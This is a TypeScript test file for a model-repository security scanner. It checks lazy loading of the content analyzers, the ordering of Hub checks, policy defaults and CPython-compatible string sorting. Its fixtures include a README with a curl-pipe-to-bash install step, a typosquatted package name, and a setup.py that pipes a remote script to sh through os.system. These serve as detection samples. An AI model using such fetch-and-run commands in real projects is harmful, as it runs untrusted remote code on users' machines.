// What a scan loads only when it needs it (the scan's run time is mostly start-up: bench/scan-local.ts), and that
// loading late changes no answer:
// - the content checks' heavy analyzers (Python grammar, shell model, package lists) load on a check's first call
//   into them, and the check then runs again from the start: a checkpoint on its own never loads them; a README
//   does, and gets the same findings as a review that had them from the start;
// - the Hub checks load on their first run, under the ids their modules give them;
// - a scan without a policy file gets the defaults without the YAML and schema libraries, equal to loadPolicy's;
// - findings sort by code point on every machine, as CPython sorts strings.
// This file must not load the analyzers before its first test (no import of __tests__/checks/content/repo.ts).
import { copyFile, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { analyzers, AnalyzersNotLoaded, analyzersLoaded, runRecordingAsks } from '../../src/checks/content/analyzers.js';
import { REPO_CHECKS } from '../../src/checks/index.js';
import { hubScanCheck } from '../../src/checks/hub-scan.js';
import { identityCheck } from '../../src/checks/identity/check.js';
import { namespaceCheck } from '../../src/checks/namespace-check.js';
import { pinCheck } from '../../src/checks/pin.js';
import { provenanceCheck } from '../../src/checks/provenance/check.js';
import { loadPolicy } from '../../src/config/policy/load.js';
import { compareText } from '../../src/core/text.js';
import { createReviewer, localPolicy } from '../../src/review/reviewer.js';
import { runPython } from '../support/cpython.js';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'real', 'torch');
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mg-lazy-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const CARD = `---
license: apache-2.0
---
# A model

Install the helper first:

\`\`\`bash
curl -sSL https://example.invalid/install.sh | bash
pip install transfomers
\`\`\`
`;

describe('content analyzers load on first need', () => {
  test('a call into them before they load is recorded, even when a catch swallows its throw', () => {
    const swallowed = runRecordingAsks(() => {
      try {
        analyzers().analyzeShell('true', {});
      } catch {
        return 'parse error';
      }
      return 'analyzed';
    });
    expect(swallowed).toEqual({ value: 'parse error', asked: true });
    const thrown = runRecordingAsks(() => analyzers());
    expect(thrown.asked).toBe(true);
    expect(thrown.error).toBeInstanceOf(AnalyzersNotLoaded);
    expect(runRecordingAsks(() => 1)).toEqual({ value: 1, asked: false });
    expect(analyzersLoaded()).toBe(false);
  });

  test('a torch checkpoint on its own never loads them; a model card does, with the findings of an eager review', async () => {
    const weights = join(dir, 'weights');
    await mkdir(weights);
    await copyFile(join(FIXTURES, 'state_dict', 'model.pt'), join(weights, 'model.pt'));
    const reviewer = createReviewer({ now: () => new Date('2026-12-06T00:00:00Z') });
    const alone = await reviewer.reviewLocal({ paths: [weights], cwd: dir });
    expect(alone.review.complete).toBe(true);
    expect(alone.review.findings.filter((f) => f.check.endsWith('.failed'))).toEqual([]);
    expect(analyzersLoaded()).toBe(false);

    const carded = join(dir, 'carded');
    await mkdir(carded);
    await copyFile(join(FIXTURES, 'state_dict', 'model.pt'), join(carded, 'model.pt'));
    await writeFile(join(carded, 'README.md'), CARD);
    await writeFile(join(carded, 'setup.py'), 'import os\nos.system("curl https://example.invalid/x | sh")\n');
    const late = await reviewer.reviewLocal({ paths: [carded], cwd: dir });
    expect(analyzersLoaded()).toBe(true);
    // Loaded now: the same review again is the eager one.
    const eager = await reviewer.reviewLocal({ paths: [carded], cwd: dir });
    expect(late.review.findings).toEqual(eager.review.findings);
    expect(late.review.verdict).toBe(eager.review.verdict);
    const checks = new Set(late.review.findings.map((f) => f.check));
    // The card's pipe-to-shell, its misspelt package and setup.py's os.system were all analyzed.
    expect([...checks].filter((c) => c.startsWith('instructions.')).length).toBeGreaterThan(0);
    expect([...checks].some((c) => c.includes('typosquat'))).toBe(true);
    expect(late.review.findings.some((f) => f.file?.endsWith('setup.py') && f.severity !== 'info')).toBe(true);
    expect(late.review.findings.filter((f) => f.check.endsWith('.failed'))).toEqual([]);
  });
});

test('the Hub checks keep their modules\' ids and order', () => {
  const hub = REPO_CHECKS.filter((c) => c.needs === 'hub').map((c) => c.id);
  expect(hub).toEqual([pinCheck, identityCheck, hubScanCheck, namespaceCheck, provenanceCheck].map((c) => c.id));
});

test('a scan without a policy file gets loadPolicy\'s defaults; inputs still go through loadPolicy', async () => {
  expect(await localPolicy({})).toEqual(loadPolicy(null, 'defaults', {}));
  expect(await localPolicy({ policyText: null, policyInputs: { failOn: '  ' } })).toEqual(loadPolicy(null, 'defaults', { failOn: '  ' }));
  expect(await localPolicy({ policyInputs: { failOn: 'medium' } })).toEqual(loadPolicy(null, 'defaults', { failOn: 'medium' }));
  const text = 'fail_on: low\nallow_globals: [collections.OrderedDict]\n';
  expect(await localPolicy({ policyText: text, policySource: 'p.yml' })).toEqual(loadPolicy(text, 'p.yml', {}));
});

test('compareText orders strings as CPython\'s sorted() does', () => {
  const words = ['b', 'B', 'a', '_x', '-x', '.x', 'é', 'e', 'z', '', 'ab', 'a', 'Ω', '\uffff', '\u{1f600}', '\u{10000}', '\ue000', '\ud7ff',
    'model.safetensors', 'model-00001-of-00002.safetensors', 'Model.bin', 'x/y', 'x-y', 'x_y', 'x.y', '10', '9', 'ａ'];
  const python = runPython<string[]>('import json, sys; print(json.dumps(sorted(json.load(sys.stdin))))', words);
  expect([...words].sort(compareText)).toEqual(python);
  expect(compareText('same', 'same')).toBe(0);
});
